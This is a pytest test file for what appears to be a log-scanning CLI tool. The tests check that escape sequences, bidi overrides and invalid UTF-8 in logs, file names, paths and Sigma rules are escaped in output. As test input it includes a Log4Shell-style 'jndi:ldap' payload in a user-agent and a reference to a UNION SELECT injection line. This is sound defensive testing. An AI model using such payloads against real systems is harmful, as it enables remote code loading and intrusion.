"""Hostile text given to the command line (a log line, a file name, a path, a Sigma rule)
never reaches the terminal raw and never ends in a traceback."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from lwsyslog.cli.main import main
from lwsyslog.cli.progress import ProgressBar
from lwsyslog.sanitize import sanitize
from tests.unit.store_support import fill, make_alert

LWSYSLOG = Path(sys.executable).parent / "lwsyslog"
SAMPLE = Path(__file__).parent.parent / "fixtures" / "logs" / "sample-access.log"
ESC = "\x1b[31m"
RAW = ("\x1b", "\u202e", "\udcff")


def lwsyslog(*args: str | bytes | Path) -> subprocess.CompletedProcess[bytes]:
    """Run the installed ``lwsyslog`` (the words as bytes where they are not UTF-8)."""
    return subprocess.run(
        [LWSYSLOG, *args], capture_output=True, timeout=120, check=False, cwd=Path(__file__).parent
    )


def assert_clean(data: bytes) -> str:
    """``data`` is valid UTF-8 with no escape, no bidi override and no traceback."""
    text = data.decode("utf-8")  # raises on a raw 0xff
    assert "Traceback" not in text
    assert not any(char in text for char in RAW), text
    return text


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """A store with one alert of now."""
    path = tmp_path / "alerts.db"
    fill(path, [make_alert(at=time.time())])
    return path


def test_explain_replaces_invalid_utf8_in_the_line_as_scan_does() -> None:
    line = b'203.0.113.5 - - [23/Nov/2026:14:00:00 +0000] "GET /\xff\xfe HTTP/1.1" 200 5 "-" "x"'
    done = lwsyslog("explain", "--no-system-config", line)
    assert done.returncode == 0, done.stderr.decode("utf-8", "replace")
    out = assert_clean(done.stdout)
    assert_clean(done.stderr)
    assert "target       /\ufffd\ufffd" in out
    assert "invalid UTF-8" in out


def test_alerts_limit_beyond_the_maximum_is_a_usage_error_naming_the_range(store: Path) -> None:
    done = lwsyslog("alerts", "--db", store, "--since", "3000d", "--limit", str(2**63 - 1))
    err = assert_clean(done.stderr)
    assert done.returncode == 2
    assert "--limit" in err and "10,000,000" in err and "OverflowError" not in err


def test_alerts_limit_at_the_maximum_still_lists(
    store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["alerts", "--db", str(store), "--limit", "10000000", "--json"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 1


@pytest.mark.parametrize("top", ["0", "-3", str(2**63)])
def test_report_top_out_of_range_is_a_usage_error(
    store: Path, top: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(["report", "--no-system-config", "--db", str(store), "--top", top])
    err = capsys.readouterr().err
    assert exit_.value.code == 2
    assert "--top" in err and "1 to 10,000" in err


def _sigma_config(tmp_path: Path, file_name: str) -> Path:
    rules = tmp_path / "sigma"
    rules.mkdir()
    (rules / file_name).write_text(
        'title: "evil \\e[31mtitle \\u202e"\n'
        "id: 5f1c2a3e-1111-4222-8333-944445555666\n"
        "status: test\n"
        'description: "desc \\e[31m"\n'
        "references:\n"
        '  - "http://x/\\e[31m"\n'
        "logsource:\n"
        "  category: webserver\n"
        "detection:\n"
        "  sel:\n"
        "    cs-uri-query|contains: evilthing\n"
        "  condition: sel\n"
        "level: high\n"
        "tags:\n"
        "  - cve.2021-44228\n",
        encoding="utf-8",
    )
    config = tmp_path / "sigma.toml"
    config.write_text(f'[sigma]\nrule_dirs = ["{rules}"]\n', encoding="utf-8")
    return config


@pytest.mark.parametrize(
    "form", [(), ("--cve",), ("--cve", "CVE-2021-44228")], ids=["table", "cve", "one-cve"]
)
def test_rules_escape_sigma_titles_and_file_names(
    tmp_path: Path, form: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    config = _sigma_config(tmp_path, f"ev{ESC}il.yml")
    assert main(["rules", "--no-system-config", "--config", str(config), *form]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out
    assert "Sigma: evil \\x1b[31mtitle \\u202e" in out
    if not form:
        assert "ev\\x1b[31mil.yml" in out


@pytest.mark.parametrize("form", [(), ("--cve",)], ids=["table", "cve"])
def test_rules_json_is_utf8_and_keeps_the_title(tmp_path: Path, form: tuple[str, ...]) -> None:
    config = _sigma_config(tmp_path, "evil.yml")
    done = lwsyslog("rules", "--no-system-config", "--config", config, "--json", *form)
    assert done.returncode == 0
    rows = [json.loads(line) for line in assert_clean(done.stdout).splitlines()]
    flat = [rule for row in rows for rule in row.get("rules", [row])]
    assert "Sigma: evil \x1b[31mtitle \u202e" in {rule["description"] for rule in flat}


def test_scan_progress_bar_escapes_the_file_name(tmp_path: Path) -> None:
    log = tmp_path / f"ev{ESC}il.log"
    log.write_bytes(SAMPLE.read_bytes())
    master, slave = os.openpty()
    try:
        done = subprocess.run(
            [LWSYSLOG, "scan", "--no-system-config", str(log)],
            stdout=subprocess.DEVNULL,
            stderr=slave,
            timeout=120,
            check=False,
        )
        os.close(slave)
        screen = b""
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the child's end is closed and all is read
                break
            if not chunk:
                break
            screen += chunk
    finally:
        os.close(master)
    assert done.returncode == 0
    drawn = screen.decode("utf-8").replace("\x1b[K", "")  # the bar's own clear-to-end
    assert "ev\\x1b[31mil.log" in drawn and "\x1b" not in drawn


class _Terminal:
    def __init__(self) -> None:
        self.text = ""

    def isatty(self) -> bool:
        return True

    def write(self, text: str) -> int:
        self.text += text
        return len(text)

    def flush(self) -> None:
        pass


@pytest.mark.parametrize("length", range(12, 28))
def test_progress_label_is_cut_between_escapes_never_inside_one(length: int) -> None:
    screen = _Terminal()
    label = "/var/log/\x1b\u202e" + "b" * length + ".log"
    ProgressBar(100, stream=screen).update(50, 10, label)  # type: ignore[arg-type]
    shown = screen.text.removeprefix("\r").split(" [")[0]
    assert "\x1b" not in shown and "\u202e" not in shown
    kept = next(label[k:] for k in range(len(label) + 1) if len(sanitize(label[k:])) <= 30)
    assert shown == sanitize(kept)


@pytest.mark.parametrize(
    "args",
    [
        ["scan", "--no-system-config", f"no{ESC}pe"],
        ["alerts", "--db", f"no{ESC}pe/alerts.db"],
        ["check-config", "--no-system-config", "--config", f"no{ESC}pe.toml"],
        ["report", "--no-system-config", "--db", f"no{ESC}pe.db"],
    ],
    ids=["scan", "alerts", "check-config", "report-db"],
)
def test_error_messages_escape_the_path(
    args: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    status = main(args)
    err = capsys.readouterr().err
    assert status in (1, 2)
    assert "\x1b" not in err and "no\\x1b[31mpe" in err


def test_report_html_error_escapes_the_path(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    page = tmp_path / f"no{ESC}dir" / "report.html"
    assert main(["report", "--no-system-config", "--db", str(store), "--html", str(page)]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and f"no\\x1b[31mdir{os.sep}report.html" in err


def test_usage_errors_escape_what_was_typed(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(["scan", f"--bogus{ESC}\u202e", str(SAMPLE)])
    err = capsys.readouterr().err
    assert exit_.value.code == 2
    assert "\x1b" not in err and "\u202e" not in err and "--bogus\\x1b[31m\\u202e" in err


def test_scan_json_escapes_an_invalid_utf8_file_name(tmp_path: Path) -> None:
    attack = SAMPLE.read_bytes().splitlines()[3]  # the UNION SELECT line
    directory = os.fsencode(tmp_path)
    name = os.path.join(directory, b"bad\xffname.log")
    with open(name, "wb") as handle:
        handle.write((attack + b"\n") * 6)
    done = lwsyslog("scan", "--no-system-config", "--json", name)
    assert done.returncode == 0
    records = [json.loads(line) for line in assert_clean(done.stdout).splitlines()]
    files = {r["file"] for r in records if r["kind"] == "finding"}
    files |= {r[end]["file"] for r in records if r["kind"] == "alert" for end in ("first", "last")}
    assert files == {os.fsdecode(directory).replace("\\", "\\\\") + "/bad\\udcffname.log"}
    summary = assert_clean(done.stderr)
    assert "bad\\udcffname.log" in summary


def test_an_alert_message_escapes_the_attacker_text_once(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The fragment keeps the attacker's bytes; each output escapes them once (not "\\x1b").
    log = tmp_path / "access.log"
    log.write_text(
        '203.0.113.5 - - [23/Nov/2026:14:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" '
        '"${jndi:ldap://x/\x1b[31m\u202eabc}"\n'
    )
    assert main(["scan", "--json", str(log)]) == 0
    records = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    (alert,) = [r for r in records if r["kind"] == "alert"]
    message = str(alert["message"])
    assert "'${jndi:ldap://x/\\x1b[31m\\u202eabc' in user_agent" in message
    assert "\\\\x1b" not in message and "\x1b" not in message and "\u202e" not in message
